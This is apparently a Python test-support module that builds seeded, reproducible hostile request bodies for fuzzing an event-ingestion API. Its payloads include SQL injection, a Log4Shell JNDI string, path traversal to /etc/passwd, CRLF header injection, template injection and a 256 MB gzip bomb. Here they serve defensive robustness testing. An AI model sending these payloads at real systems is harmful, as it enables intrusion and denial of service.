"""Bodies that mean harm, from a seeded generator: every run sends the same."""

import copy
import gzip
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any

from tests.support.rawhttp import Header

STRUCTURED = b"application/cloudevents+json"
BATCH = b"application/cloudevents-batch+json"
JSON = b"application/json"
SEGMENT = (b"/v1/track", b"/v1/identify", b"/v1/batch", b"/v1/page", b"/v1/alias", b"/v1/group", b"/v1/import")
BIG = 10 * 1024 * 1024
BOMB = 256 * 1024 * 1024


@dataclass(frozen=True)
class Body:
    """One request. `kind` is the maker's name, for the report."""

    kind: str
    path: bytes
    headers: tuple[Header, ...]
    body: bytes


class Maker:
    """Makes bodies; all chance comes from `seed`."""

    def __init__(self, seed: int, at: str) -> None:
        self.random = random.Random(seed)
        self.at = at
        self._count = 0

    def event(self) -> dict[str, Any]:
        """A good event, to be spoilt."""
        self._count += 1
        number = self._count
        who = {"email": f"hostile-{number}@evil.example", "user_id": f"h-{number}"}
        line = {"product_id": "p", "name": "Thing", "quantity": 1, "price": "99.00", "image": "https://x.example/i"}
        cart = {"id": f"h-{number}", "value": "99.00", "currency": "PLN", "url": "https://x.example", "items": [line]}
        consent = {"channel": "email", "purpose": "marketing", "status": "granted", "clause": "c", "text": "t"}
        order = {"id": f"o-{number}", "value": "99.00", "currency": "PLN", "status": "new", "items": [line]}
        data: dict[str, dict[str, Any]] = {
            "cart.updated": {"cart": cart},
            "order.placed": {"order": order},
            "profile.updated": {"first_name": "Eve", "birthday": "1990-01-01", "tags": ["a"], "timezone": "UTC"},
            "consent.changed": {"consents": [consent]},
            "custom.thing": {"a": {"b": [1, 2, {"c": None}]}},
        }
        kind = self.random.choice(sorted(data))
        made = {"specversion": "1.0", "id": f"hostile-{number}", "source": "/shops/demo/web", "type": kind}
        return made | {"time": self.at, "data": who | data[kind]}

    def text(self) -> str:
        """Text that breaks things."""
        return self.random.choice(
            (
                "",
                "\x00",
                "a\x00b",
                "x\r\nBcc: eve@evil.example\r\n\r\nbody",
                "\u2028\u2029\x85\x0b\x0c",
                "\ufeff\ufffe\uffff",
                "'; DROP TABLE ingest.seen; --",
                "{{ 7*7 }}{% raw %}",
                "${jndi:ldap://x.example/a}",
                "../../../../etc/passwd",
                "A" * 100_000,
                "é" * 50_000,
                "1e1000000",
                "9" * 10_000,
                "-0",
                "NaN",
                "2026-02-30T25:61:61Z",
                "9999-12-31T23:59:59-14:00",
                "0001-01-01T00:00:00+14:00",
                "12026-01-01T00:00:00Z",
                "/shops/" + "x" * 5_000,
                "a@b@c.example",
                '"\\\r\n"@x.example',
                "+48" + "6" * 400,
            )
        )

    def value(self) -> Any:
        """A value of a type that nobody asked for."""
        nested: Any = "x"
        for _ in range(self.random.randrange(1, 200)):
            nested = self.random.choice(([nested], {"n": nested}))
        choices: tuple[Any, ...] = (None, True, False, 0, -1, 1.5, 2**53, 10**400, -(2**63), 1e308, 5e-324)
        return self.random.choice((*choices, [], {}, [[]], [None] * 1_000, {"": ""}, nested, self.text(), self.text()))


def paths(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in a JSON value."""
    yield at
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, one in inner:
        yield from paths(one, (*at, key))


def put(value: Any, at: tuple[Any, ...], new: Any) -> Any:
    """A copy with another value at a place."""
    if not at:
        return new
    made = copy.deepcopy(value)
    inner = made
    for key in at[:-1]:
        inner = inner[key]
    inner[at[-1]] = new
    return made


def dumps(value: Any) -> bytes:
    return json.dumps(value).encode()


def sent(kind: str, body: bytes, content_type: bytes = STRUCTURED, *more: Header, path: bytes = b"/v1/events") -> Body:
    return Body(kind, path, ((b"Content-Type", content_type), *more), body)


def wrong_type(maker: Maker) -> Body:
    event = maker.event()
    return sent("wrong type", dumps(put(event, maker.random.choice(list(paths(event))), maker.value())))


def wrong_types(maker: Maker) -> Body:
    event = maker.event()
    for _ in range(3):
        event = put(event, maker.random.choice([at for at in paths(event) if at]), maker.value())
    return sent("wrong types", dumps(event))


def missing(maker: Maker) -> Body:
    event = maker.event()
    for name in maker.random.sample(sorted(event), maker.random.randrange(1, 4)):
        del event[name]
    return sent("missing", dumps(event))


def bad_utf8(maker: Maker) -> Body:
    body = bytearray(dumps(maker.event()))
    for _ in range(maker.random.randrange(1, 8)):
        body[maker.random.randrange(len(body))] = maker.random.randrange(0x80, 0x100)
    return sent("bad UTF-8", bytes(body))


def null_bytes(maker: Maker) -> Body:
    body = bytearray(dumps(maker.event()))
    for _ in range(maker.random.randrange(1, 4)):
        body.insert(maker.random.randrange(len(body)), 0)
    return sent("null bytes", bytes(body))


def text_anywhere(maker: Maker) -> Body:
    event = maker.event()
    leaves = [at for at in paths(event) if at and not isinstance(_at(event, at), dict | list)]
    return sent("hostile text", dumps(put(event, maker.random.choice(leaves), maker.text())))


def _at(value: Any, at: tuple[Any, ...]) -> Any:
    for key in at:
        value = value[key]
    return value


def hostile_key(maker: Maker) -> Body:
    event = maker.event()
    event[maker.text()[:50]] = "x"
    event["data"][maker.text()[:5_000]] = {maker.text()[:500]: maker.value()}
    return sent("hostile key", dumps(event))


def not_a_number(maker: Maker) -> Body:
    event = dumps(put(maker.event(), ("data", "number"), "PLACE"))
    word = maker.random.choice((b"NaN", b"Infinity", b"-Infinity", b"1e999", b"-1e999", b"1" * 5_000, b"0x10", b"01"))
    return sent("not a number", event.replace(b'"PLACE"', word))


def duplicate_keys(maker: Maker) -> Body:
    body = dumps(maker.event())[:-1]
    more = maker.random.choice((b',"id":null}', b',"type":"order.placed"}', b',"data":{},"data":7}', b',"data":[]}'))
    return sent("duplicate keys", body + more)


def lone_surrogate(maker: Maker) -> Body:
    event = maker.event()
    leaves = [at for at in paths(event) if at and isinstance(_at(event, at), str)]
    return sent("lone surrogate", dumps(put(event, maker.random.choice(leaves), "a\ud800b\udfff")))


def truncated(maker: Maker) -> Body:
    body = dumps(maker.event())
    return sent("truncated", body[: maker.random.randrange(len(body))])


def noise(maker: Maker) -> Body:
    return sent("noise", maker.random.randbytes(maker.random.randrange(0, 500)))


def deep(maker: Maker) -> Body:
    depth = maker.random.choice((1_000, 10_000, 100_000))
    opening, closing = maker.random.choice(((b"[", b"]"), (b'{"a":', b"}")))
    inner = opening * depth + b"1" + (closing * depth if maker.random.random() < 0.5 else b"")
    body = dumps(put(maker.event(), ("data", "deep"), "PLACE")).replace(b'"PLACE"', inner)
    return sent("deep", maker.random.choice((body, inner)))


def batch(maker: Maker) -> Body:
    rows: list[Any] = [maker.event() for _ in range(3)]
    rows.insert(maker.random.randrange(4), maker.value())
    made: Any = maker.random.choice((rows, [], {}, None, [[]] * 2_000, [{}] * 2_000, rows[0]))
    return sent("batch", dumps(made), BATCH)


def wrong_content_type(maker: Maker) -> Body:
    types = (
        b"",
        b"text/plain",
        b"application/xml",
        b"application/cloudevents+avro",
        b"multipart/form-data",
        b"\xff\xfe",
    )
    more = (
        b"application/cloudevents+json; charset=utf-16",
        b"application/cloudevents-batch+json",
        b"a/b; c=" + b"d" * 4_000,
    )
    return sent("wrong content type", dumps(maker.event()), maker.random.choice((*types, *more)))


def binary(maker: Maker) -> Body:
    event = maker.event()
    headers = {b"ce-" + name.encode(): str(event[name]).encode() for name in ("specversion", "id", "source", "type")}
    headers[b"ce-time"] = maker.at.encode()
    values = (b"", b"\xff\xfe", b"%00", b"%0d%0aBcc:x", b"x" * 4_000, b"2.0", b"%zz", b"\xc3\xa9", b"%ED%A0%80")
    headers[maker.random.choice((*sorted(headers), b"ce-x", b"ce-data", b"ce-DATA_BASE64"))] = maker.random.choice(
        values
    )
    if maker.random.random() < 0.3:
        del headers[maker.random.choice(sorted(headers))]
    data = maker.random.choice((dumps(event["data"]), dumps(maker.value()), b"", b"\xff"))
    return sent("binary mode", data, JSON, *headers.items())


def gzipped(maker: Maker) -> Body:
    whole = gzip.compress(dumps(maker.event()), 1)
    spoilt = bytearray(whole)
    spoilt[maker.random.randrange(len(spoilt))] ^= 0xFF
    body = maker.random.choice((whole[: maker.random.randrange(len(whole))], bytes(spoilt), whole + whole, b"plain"))
    word = maker.random.choice((b"gzip", b"gzip", b"deflate", b"br", b"zstd", b"gzip, gzip", b"x" * 100))
    path = maker.random.choice((b"/v1/events", *SEGMENT))
    return sent(
        "broken gzip", body, JSON if path != b"/v1/events" else STRUCTURED, (b"Content-Encoding", word), path=path
    )


def segment(maker: Maker) -> Body:
    one: dict[str, Any] = {"type": "track", "userId": "h", "event": "custom.thing", "messageId": "m"}
    one |= {"properties": {"a": [1]}, "context": {"ip": "203.0.113.1"}, "timestamp": maker.at}
    body: dict[str, Any] = {"batch": [one, dict(one)], "sentAt": maker.at} | one
    return sent(
        "segment",
        dumps(put(body, maker.random.choice(list(paths(body))), maker.value())),
        JSON,
        path=maker.random.choice(SEGMENT),
    )


def elsewhere(maker: Maker) -> Body:
    routes = (
        b"/v1/webhooks/..%2f..%2fetc",
        b"/v1/catalog",
        b"/v1/profiles/resolve",
        b"/%00",
        b"/v1/events?shop=%ff%00",
    )
    return sent("elsewhere", dumps(maker.value()), JSON, path=maker.random.choice(routes))


@cache
def _bomb() -> bytes:
    return gzip.compress(bytes(BOMB), 9)


def bomb(maker: Maker) -> Body:
    path = maker.random.choice((b"/v1/events", b"/v1/batch"))
    return sent(
        "gzip bomb", _bomb(), STRUCTURED if path == b"/v1/events" else JSON, (b"Content-Encoding", b"gzip"), path=path
    )


def big(maker: Maker) -> Body:
    filler = maker.random.choice((b"A" * BIG, b" " * BIG, b'","' * (BIG // 3)))
    body = dumps(put(maker.event(), ("data", "big"), "PLACE")).replace(b"PLACE", filler)
    return sent("10 MB", body)


COMMON: tuple[Callable[[Maker], Body], ...] = (
    *(wrong_type, wrong_type, wrong_types, missing, bad_utf8, null_bytes, text_anywhere, text_anywhere),
    *(hostile_key, not_a_number, duplicate_keys, lone_surrogate, truncated, noise, batch, wrong_content_type),
    *(binary, binary, gzipped, segment, segment, elsewhere),
)
RARE: tuple[Callable[[Maker], Body], ...] = (deep, bomb, big)
RARELY: dict[Callable[[Maker], Body], int] = {deep: 200, bomb: 12, big: 20}


def bodies(seed: int, count: int, at: str) -> Iterator[Body]:
    """`count` bodies, the heavy ones spread among them."""
    maker = Maker(seed, at)
    makers: list[Callable[[Maker], Body]] = [one for one in RARE for _ in range(RARELY[one])]
    makers += [maker.random.choice(COMMON) for _ in range(count - len(makers))]
    maker.random.shuffle(makers)
    return (make(maker) for make in makers)
